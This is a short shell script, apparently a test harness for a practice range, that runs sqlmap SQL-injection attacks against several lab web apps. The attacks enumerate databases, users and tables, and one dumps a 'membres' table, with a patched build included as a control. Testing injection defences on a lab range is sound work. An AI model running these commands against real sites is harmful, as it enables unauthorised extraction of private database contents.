# SPDX-License-Identifier: GPL-2.0-or-later
# sqlmap against every database of the range: strings, paths, JSON, cookies; a blind and a mended build too.
run() { timeout 240 sqlmap --batch --disable-coloring --flush-session --answers='follow=N,redirect=N' --timeout=8 --retries=0 --time-sec=2 --output-dir=/tmp/sqlmap "$@" || true; }
run -u 'http://203.0.113.31/suche?begriff=Bohr' -p begriff --technique=UE --dbs
run -u 'http://203.0.113.31/api/bestand?artikel=Minibagger%20MB%2018' -p artikel --technique=B --current-db
run -u 'http://203.0.113.32/suche?begriff=Bohr' -p begriff --technique=T --current-user
run -u 'http://203.0.113.33/suche?begriff=Bohr' -p begriff --technique=BEU
run -u 'http://203.0.113.31/anfrage' --data '{"kunde":"Meier","text":"x"}' -p kunde --technique=T
run -u 'http://203.0.113.51:8000/plantes?famille=Pinaceae' -p famille --technique=U -T membres --dump
run -u 'http://203.0.113.51:8000/api/membre' --data '{"pseudo":"marthe"}' --technique=B --banner
run -u 'http://203.0.113.53:8000/plantes?famille=Pinaceae' -p famille --technique=BU
run -u 'http://203.0.113.71/barcos.php?eslora=9' -p eslora --technique=UE --banner --tables
run -u 'http://203.0.113.71/tarifas.php?moneda=EUR' -p moneda --technique=ST
